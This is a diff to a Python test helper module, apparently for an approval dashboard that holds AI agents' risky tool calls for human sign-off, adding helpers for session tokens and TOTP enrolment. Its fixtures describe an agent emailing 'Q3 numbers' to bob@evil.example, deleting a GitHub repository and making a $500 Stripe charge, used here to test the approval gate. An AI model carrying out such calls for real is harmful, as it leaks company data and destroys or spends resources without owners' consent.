@@ -19,8 +19,10 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import pyotp
 import pytest
 
+from ..integration.scenarios import CHARGE_500, DELETE_REPO  # noqa: F401 - re-exported
 from .conftest import DevServer, mint
 
 REPO = Path(__file__).resolve().parents[2]
@@ -41,11 +43,6 @@ TIMEOUT_MS = 15_000
 SEND_EMAIL = {
     "tool": "gmail.send_message",
     "arguments": {"to": "bob@evil.example", "subject": "Q3 numbers", "body": "See attached."},
-}
-DELETE_REPO = {"tool": "github.delete_repo", "arguments": {"repo": "acme/api"}}
-CHARGE_500 = {
-    "tool": "stripe.create_charge",
-    "arguments": {"amount": 50000, "currency": "usd", "customer": "cus_123"},
 }
 
 
@@ -177,3 +174,22 @@ def dash(browser, web_server, web_admin, request) -> Iterator[Dashboard]:
         problems.remove(match)
     assert problems == [], problems
     assert foreign == [], foreign
+
+
+def session_client(dash: Dashboard) -> httpx.Client:
+    """An HTTP client with the tab's own dashboard session token."""
+    token = dash.page.evaluate("JSON.parse(sessionStorage.getItem('vettra.session')).token")
+    return dash.live.client(token)
+
+
+def enrol_totp(dash: Dashboard) -> pyotp.TOTP:
+    """Enrol an authenticator app for the tab's user over HTTP (spends the current step)."""
+    with session_client(dash) as me:
+        started = me.post("/api/approvals/stepup/enroll", json={"method": "totp"}).json()
+        totp = pyotp.TOTP(started["secret"])
+        done = me.post(
+            "/api/approvals/stepup/enroll",
+            json={"method": "totp", "enrollment_id": started["enrollment_id"], "code": totp.now()},
+        )
+        assert done.status_code == 200, done.text
+    return totp
